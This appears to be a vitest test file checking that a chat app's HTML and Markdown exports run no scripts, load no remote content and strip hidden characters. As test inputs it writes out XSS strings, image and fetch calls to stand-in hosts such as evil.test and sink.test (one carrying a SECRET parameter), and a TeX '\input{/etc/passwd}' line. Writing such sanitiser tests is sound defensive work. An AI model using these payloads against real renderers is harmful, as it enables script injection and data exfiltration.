// @vitest-environment happy-dom
import { Marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { DOCUMENT_WORDS } from '../../components/history/document-words.ts';
import { reduceAll } from '../agent/thread/reduce.ts';
import type { ThreadEvent } from '../contracts/event.ts';
import { emptyThread } from '../contracts/thread.ts';
import { LINEAR_GROWTH, timeGrowth } from '../testing/time-growth.ts';
import { threadHtml } from './thread-html.ts';
import { type ExportedChat, threadMarkdown } from './thread-markdown.ts';

function chatWith(title: string, question: string, answer: string): ExportedChat {
  const model = { endpointId: 'e', modelId: '<i>model</i>' };
  const image = { mediaType: 'image/png' as const, data: 'AAAA', width: 1, height: 1 };
  const events: ThreadEvent[] = [
    {
      type: 'user-message',
      messageId: 'm',
      content: question,
      files: [
        { type: 'image', name: '"map".png', image },
        { type: 'image', name: 'bad', image: { ...image, data: '"><script>alert(1)</script>' } },
      ],
    },
    { type: 'run-start', runId: 'r', messageId: 'm', model, tabId: null, page: null, maxSteps: 1 },
    { type: 'step-start', stepId: 's', toolMode: 'none' },
    { type: 'text-delta', delta: answer },
    { type: 'step-end', finishReason: 'stop' },
    { type: 'run-end', outcome: { type: 'complete' }, stats: { ms: 0, steps: 1, toolCalls: 0 } },
  ];
  const rows = events.map((event, index) => ({ threadId: 't', seq: index + 1, at: 1_000 + index, event }));
  return { title, createdAt: 0, updatedAt: 86_400_000, thread: reduceAll(emptyThread('t'), rows) };
}

const exportHtml = async (chat: ExportedChat) => {
  const html = await threadHtml(chat, DOCUMENT_WORDS, 'en');
  return { html, page: new DOMParser().parseFromString(html, 'text/html') };
};

test('an HTML file shows questions as text, answers as formatted, and attached pictures', async () => {
  const { page } = await exportHtml(chatWith('Tides', 'Why <b>tides</b>?\n**Now**', 'Because of the **moon**: $x^2$.'));
  expect(page.querySelector('h1')?.textContent).toBe('Tides');
  expect(page.querySelector('.user .text')?.textContent).toBe('Why <b>tides</b>?\n**Now**');
  expect(page.querySelector('.assistant h2')?.textContent).toBe('<i>model</i>');
  expect(page.querySelector('.assistant strong')?.textContent).toBe('moon');
  expect(page.querySelector('.assistant math')).not.toBeNull();
  expect([...page.querySelectorAll('img')].map(({ src, alt }) => [src, alt])).toEqual([
    ['data:image/png;base64,AAAA', '"map".png'],
  ]);
});

test('an HTML file has no scripts, loads nothing, and forbids both', async () => {
  const evil = '</title><script>alert(1)</script><img src="https://a.test/x" onerror=alert(1)>';
  const { page } = await exportHtml(chatWith(evil, evil, `${evil}\n\n![p](https://a.test/p.png)`));
  expect(page.querySelectorAll('script, iframe, object, link, img:not([src^="data:image/png"])')).toHaveLength(0);
  expect(
    [...page.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()).filter((name) => /^on/.test(name)),
  ).toEqual([]);
  expect(page.querySelector('meta[http-equiv]')?.getAttribute('content')).toContain("default-src 'none'");
  expect(page.title).toBe(evil);
});

test('front matter is YAML that can contain any title', () => {
  const title = 'a: "b"\n---\n# c \\ \u0085 \u2028 é';
  const [, yaml = ''] = /^---\n([\s\S]*?)\n---\n/.exec(threadMarkdown(chatWith(title, 'q', 'a'), DOCUMENT_WORDS)) ?? [];
  expect(parse(yaml)).toEqual({
    title: 'a: "b" --- # c \\ é',
    created: '1970-01-01T00:00:00.000Z',
    updated: '1970-01-02T00:00:00.000Z',
    models: ['<i>model</i>'],
    tags: ['sidenote'],
  });
});

const IMAGE = '![x](https://evil.test/?q=1)';

/** The parts of a Markdown text that would load something: images and HTML. */
function loadingParts(markdown: string): string[] {
  const found: string[] = [];
  const marked = new Marked({ gfm: true });
  marked.walkTokens(marked.lexer(markdown), ({ type, raw }) => {
    if (type === 'image' || type === 'html') found.push(raw);
  });
  return found;
}

test.each([
  ['behind code that ends with its list', 'q', `- a\n  \`\`\`\n${IMAGE}`],
  ['behind a line that is like a fence, with a backtick', 'q', `\`\`\`x\`y\n${IMAGE}`],
  ['behind a fence and a lone carriage return', 'q', `\`\`\`\na\n\`\`\`\r${IMAGE}`],
  ['behind a fence that HTML hides', 'q', `<div>\n\`\`\`\n\n\`\`\`\n${IMAGE}`],
  ['behind a fence that is the address of a definition', 'q', `[a]: \n\`\`\`~<\n${IMAGE}`],
  ['behind code of the question that has no end', '```\na', `\`\`\`\n${IMAGE}\n\`\`\``],
  ['behind a last line that begins code', 'a\n```', `\`\`\`\n${IMAGE}\n\`\`\``],
  ['behind a backslash', 'q', `\\${IMAGE} and \\\\${IMAGE} and \\<img src="https://evil.test/">`],
  ['behind an address that takes a backslash in', 'q', 'https://a.test<img src="https://evil.test/">'],
])('Markdown loads no picture that stands %s', (_where, question, answer) => {
  const markdown = threadMarkdown(chatWith('t', question, answer), DOCUMENT_WORDS).replace(/^---\n.*?\n---\n/s, '');
  expect(markdown).toContain('evil.test');
  expect(loadingParts(markdown)).toEqual([]);
});

test('Markdown has fenced code as it was written', () => {
  const code = '<b>x</b> ![y](z)\n\n```\n\\<i>';
  const markdown = threadMarkdown(chatWith('t', 'q', `a\n~~~html {1}\n${code}\n~~~\nb`), DOCUMENT_WORDS);
  expect(markdown).toContain(`a\n\n\`\`\`\`html\n${code}\n\`\`\`\`\nb`);
});

test('Markdown keeps a block of Markdown with its own fences, and line breaks in cells', () => {
  const code = '# T\n\n```js\nx\n```\n\nRun it.';
  const answer = `\`\`\`markdown\n${code}\n\`\`\`\n\n| a |\n|---|\n| 1<br>2 |\n\n<br>\n\n1<br onclick=x>`;
  const markdown = threadMarkdown(chatWith('t', 'q', answer), DOCUMENT_WORDS);
  expect(markdown).toContain(`\`\`\`\`markdown\n${code}\n\`\`\`\``);
  expect(markdown).toContain('| 1<br>2 |');
  expect(markdown).toContain('\n&lt;br>\n');
  expect(markdown).toContain('1&lt;br onclick');
});

describe('a Markdown file loads and runs nothing in programs that draw more than Markdown', () => {
  const exported = (answer: string) => threadMarkdown(chatWith('Title', 'Why?', answer), DOCUMENT_WORDS);

  test.each([
    'mermaid',
    'Mermaid',
    'dataviewjs',
    'dataview',
    'plantuml',
    'dot',
    'graphviz',
    'query',
    'tikz',
    'svgbob',
    'run-python',
  ])('a fence of %s is one of text', (language) => {
    const text = exported(`\`\`\`${language}\nA@{ img: "https://sink.test/p?d=SECRET" }\n\`\`\``);
    expect(text).toContain('```text\nA@{ img:');
    expect(text).not.toMatch(new RegExp(`^\`\`\`${language}`, 'im'));
  });

  test.each([
    ['a list', '- a\n  ```mermaid\n  x\n  ```'],
    ['a quotation', '> ```dataviewjs\n> x\n> ```'],
    ['a quotation in lists', '1. - > ~~~plantuml\n     > x\n     > ~~~'],
    ['a list, with backticks in its first line', '- ~~~mermaid `\n  x\n  ~~~'],
    ['a task', '- [ ] ```mermaid\n  x\n  ```'],
    ['a list with letters', 'a. ```mermaid\n   x\n   ```'],
    ['a definition', 'a\n: ```mermaid\n  x\n  ```'],
    ['the first line of a footnote', 'a[^1]\n\n[^1]: ```mermaid\n    x\n    ```'],
    ['a footnote', 'a[^1]\n\n[^1]: b\n\n    ```mermaid\n    x\n    ```'],
  ])('a fence in %s is one of text', (_where, answer) => {
    expect(exported(answer)).toMatch(/(?:```|~~~)text\n/);
    expect(exported(answer)).not.toMatch(/(?:```|~~~)[a-su-z]/);
  });

  test('a container and a query within a line are text', () => {
    expect(exported('::: mermaid\nA\n:::')).toContain('\\::: mermaid');
    expect(exported('a `$= await fetch("https://sink.test")` b `= this.file`')).toContain(
      'a \\`$= await fetch("https://sink.test")` b \\`= this.file`',
    );
    expect(exported('a `x = 1` b')).toContain('a `x = 1` b');
  });

  test('blocks that are nested thousands of times are one block of text', () => {
    expect(exported('>'.repeat(20_000))).toContain('```text\n>>>');
  });

  test.each(['ts', 'python', 'C++', 'json', 'sh'])('a fence of %s stays', (language) => {
    expect(exported(`\`\`\`${language}\nx\n\`\`\``)).toContain(`\`\`\`${language}\nx`);
  });

  test.each([
    '\\style{background:url(https://sink.test/)}{x}',
    '\\href{https://sink.test/}{x}',
    '\\includegraphics{https://sink.test/}',
    '\\mmlToken{mi}[style="background:url(https://sink.test/)"]{x}',
    '\\input{/etc/passwd}',
  ])('a command of TeX is no command: %s', (command) => expect(exported(`$${command}$`)).toContain(`$\\${command}$`));

  test('formulas stay', () => expect(exported('$\\frac{1}{2} \\cdot x$')).toContain('$\\frac{1}{2} \\cdot x$'));

  test('tags of templates and HTML are text', () => {
    expect(exported('a <% tp.web.fetch() %> <img src=x>')).toContain('a &lt;% tp.web.fetch() %> &lt;img src=x>');
  });
});

test('a Markdown file has no characters that nobody sees', () => {
  const hidden = [...'canary'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
  const text = threadMarkdown(chatWith('Title', 'Why?', `Dear Bob,${hidden} thank\u202E you.\u200B`), DOCUMENT_WORDS);
  expect(text).toContain('Dear Bob, thank you.');
  expect(text).not.toMatch(/[\u{E0000}-\u{E007F}\u202E\u200B]/u);
});

test.each<[string, (size: number) => string]>([
  ['a list with many lines', (size) => `- a\n${'b\n'.repeat(size / 2)}`],
  ['marks of emphasis that do not fit', (size) => '~~a~ '.repeat(size / 5)],
  ['what may be addresses', (size) => `${'a_'.repeat(size / 2)}@a`],
  ['backslashes', (size) => '\\'.repeat(size)],
  ['a fence with a long line that is none', (size) => `- a\n  \`\`\`${' '.repeat(size)}\``],
  ['quotations and lists in each other', (size) => '> - '.repeat(size / 4)],
])('a Markdown file is written in a time that grows with its length: %s', async (_, answer) => {
  const write = (size: number) => threadMarkdown(chatWith('t', 'q', answer(size)), DOCUMENT_WORDS);
  expect(await timeGrowth(write, 60_000)).toBeLessThan(LINEAR_GROWTH);
});
